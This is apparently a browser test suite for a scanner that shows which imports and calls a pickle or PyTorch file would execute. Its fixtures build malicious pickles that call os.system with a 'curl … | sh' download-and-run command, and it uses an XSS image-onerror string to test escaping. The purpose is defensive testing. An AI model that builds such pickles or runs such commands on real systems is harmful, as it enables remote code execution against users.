import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { beforeAll, expect, it } from 'vitest';
import { call, dense, dict, global, pickle, storage, text, torchFile } from '../support/torch-bytes.ts';
import { joined, utf8 } from '../support/zip-bytes.ts';
import { violations } from './support/axe.ts';
import { openPath } from './support/browser.ts';
import { type CallGate, gateCalls } from './support/hold-calls.ts';
import { describeInBrowser } from './support/in-browser.ts';

const FOUR = new Uint8Array(Float32Array.of(1, 2, 3, 4).buffer);
const HOSTILE = '<img src=x onerror=alert(1)>\u202e';

describeInBrowser('what a pickle would run', ({ open, folder }) => {
  const evil = join(folder, 'evil.pt');
  const many = join(folder, 'many.pkl');
  const plain = join(folder, 'plain.pkl');
  const broken = join(folder, 'broken.pkl');

  const listOf = (page: Page): Locator => page.getByRole('grid', { name: 'Imports and calls' });
  /** Opens a file and shows the list. */
  const openList = async (path: string): Promise<{ page: Page; list: Locator }> => {
    const { page } = await open();
    await openPath(page, path);
    await page.getByRole('tab', { name: /^Pickle/ }).click();
    return { page, list: listOf(page) };
  };
  const rows = (list: Locator): Promise<readonly string[]> => list.locator('[data-event]').allTextContents();

  /** The same with a gate in the connection. */
  const openGated = async (path: string, fate: (gate: CallGate) => void) => {
    const gates: CallGate[] = [];
    const { page } = await open({ prepare: async (fresh) => gates.push(await gateCalls(fresh)) });
    const [gate] = gates;
    if (gate === undefined) {
      throw new Error('the page was not prepared');
    }
    fate(gate);
    await openPath(page, path);
    await page.getByRole('tab', { name: /^Pickle/ }).click();
    return { page, gate, list: listOf(page) };
  };

  beforeAll(() => {
    const odd = call(global('mine', HOSTILE), text(HOSTILE));
    const system = call(global('os', 'system'), text('curl http://example.invalid | sh'));
    const weights = dense(storage('FloatStorage', '0', 4), [2, 2]);
    const root = pickle(dict([text('w'), weights], [text('odd'), odd], [text('run'), system]));
    writeFileSync(evil, torchFile(root, { 0: FOUR }));
    const ordered = joined(global('collections', 'OrderedDict'), utf8(')R0'));
    const last = joined(global('os', 'system'), utf8('0'));
    writeFileSync(
      many,
      joined(Uint8Array.of(0x80, 2), ...new Array<Uint8Array>(50_000).fill(ordered), last, utf8('N.')),
    );
    writeFileSync(plain, pickle(dict([text('epoch'), text('three')])));
    writeFileSync(broken, joined(Uint8Array.of(0x80, 2), global('os', 'system'), utf8('0'), Uint8Array.of(0xff)));
  });

  it('lists what matters first, and the rest by a switch', async () => {
    const { page, list } = await openList(evil);
    await list.locator('[data-grade="dangerous"]').first().waitFor();
    expect(await rows(list)).toEqual([
      expect.stringMatching(/^UnknownImportmine\..*not among the imports/),
      expect.stringMatching(/^UnknownCallmine\./),
      expect.stringMatching(/^DangerImportos\.systemruns commandsm\/data\.pkl\d/),
      expect.stringMatching(
        /^DangerCallos\.system\("curl http:\/\/example\.invalid \| sh"\)runs commandsm\/data\.pkl\d/,
      ),
    ]);
    const allowed = page.getByRole('button', { name: /^Allowed \d/ });
    expect(await allowed.getAttribute('aria-pressed')).toBe('false');
    await allowed.click();
    await list.getByText('torch._utils._rebuild_tensor_v2').first().waitFor();
    await page.getByRole('button', { name: /^Unknown/ }).click();
    await page.getByRole('button', { name: /^Danger 2/ }).click();
    await allowed.click();
    await page.getByText(/^All \d+ imports and calls are hidden/).waitFor();
    await page.getByRole('button', { name: 'Show all' }).click();
    await list.locator('[data-grade="allowed"]').first().waitFor();
  });

  it('shows hostile names as text with visible escapes', async () => {
    const { page, list } = await openList(evil);
    const row = list.locator('[data-event="1"]');
    await row.waitFor();
    expect(await row.textContent()).toContain('<img src=x onerror=alert(1)>\\u{202e}');
    expect(await row.getAttribute('title')).toContain('\\u{202e}');
    expect(await page.locator('img').count()).toBe(0);
  });

  it('is reached from a finding, by mouse and by key', async () => {
    const { page } = await open();
    await openPath(page, evil);
    const finding = page.locator('.finding-row[data-code="pickle-dangerous-call"]');
    await finding.locator('[data-jump]').click();
    const list = listOf(page);
    await list.locator('[aria-selected="true"]', { hasText: /^DangerCallos\.system/ }).waitFor();
    await expect.poll(() => list.evaluate((element) => element === document.activeElement)).toBe(true);

    await page.getByRole('button', { name: /^Unknown/ }).click();
    await page.getByRole('tab', { name: /^Findings/ }).click();
    const findings = page.getByRole('listbox', { name: 'Findings' });
    await findings.focus();
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    await list.locator('[aria-selected="true"]', { hasText: 'mine.' }).waitFor();
    expect(await page.getByRole('button', { name: /^Unknown/ }).getAttribute('aria-pressed')).toBe('true');
    await list.press('Control+c');
    await page.getByText('Copied the event').waitFor();
  });

  it('holds a hundred thousand events with few elements, to the last one', async () => {
    const { page, list } = await openList(many);
    await list.locator('[data-grade="dangerous"]').waitFor();
    await page.getByRole('button', { name: /^Allowed/ }).click();
    await list.getByText('collections.OrderedDict').first().waitFor();
    expect(await list.getAttribute('aria-rowcount')).toBe('100002');
    expect(await list.locator('[data-event]').count()).toBeLessThan(60);
    await list.focus();
    await page.keyboard.press('End');
    await list.locator('[data-event="100000"][aria-selected="true"]', { hasText: 'os.system' }).waitFor();
    await page.keyboard.press('Home');
    await list.locator('[data-event="0"][aria-selected="true"]', { hasText: 'OrderedDict' }).waitFor();
  });

  it('says so when nothing would run', async () => {
    const { page } = await openList(plain);
    await page.locator('[data-state-of-panel="empty"]', { hasText: 'Nothing would run' }).waitFor();
  });

  it('lists what comes before a break, and names the break', async () => {
    const { page, list } = await openList(broken);
    await page.locator('[data-state-of-panel="partial"]', { hasText: 'broken.pkl: broken at byte' }).waitFor();
    expect(await rows(list)).toEqual([expect.stringMatching(/^DangerImportos\.system/)]);
  });

  it('shows a skeleton while it waits, and an error that can be tried again', async () => {
    const { page, gate, list } = await openGated(evil, (calls) => calls.set('pickles', 'hold'));
    await page.getByRole('status').filter({ hasText: 'Listing what the pickles would run' }).waitFor();
    gate.set('pickleEvents', 'fail');
    gate.set('pickles', 'pass');
    await page.getByText('The imports and calls could not be read').waitFor();
    gate.set('pickleEvents', 'pass');
    await page.getByRole('button', { name: 'Try again' }).click();
    await list.getByText('os.system').first().waitFor();
  });

  it('says what failed when the pickles cannot be listed at all', async () => {
    const { page, gate, list } = await openGated(evil, (calls) => calls.set('pickles', 'fail'));
    await page.getByRole('alert').filter({ hasText: 'The pickles could not be listed' }).waitFor();
    gate.set('pickles', 'pass');
    await page.getByRole('button', { name: 'Try again' }).click();
    await list.getByText('os.system').first().waitFor();
  });

  it('has no place in the window for a file without pickles', async () => {
    const { page } = await open();
    await page.getByRole('button', { name: 'Try the sample' }).click();
    await page.getByRole('tab', { name: /^Metadata/ }).waitFor();
    expect(await page.getByRole('tab', { name: /^Pickle/ }).count()).toBe(0);
  });

  it.each(['light', 'dark'] as const)('axe finds nothing in the %s theme', async (colorScheme) => {
    const { page } = await open({ colorScheme });
    await openPath(page, evil);
    await page.getByRole('tab', { name: /^Pickle/ }).click();
    const list = listOf(page);
    await list.locator('[data-event]').first().click();
    expect(await violations(page, colorScheme)).toEqual([]);
    await page.getByRole('tab', { name: /^Findings/ }).click();
    await page.locator('[data-jump]').first().waitFor();
    expect(await violations(page, colorScheme)).toEqual([]);
  });
});
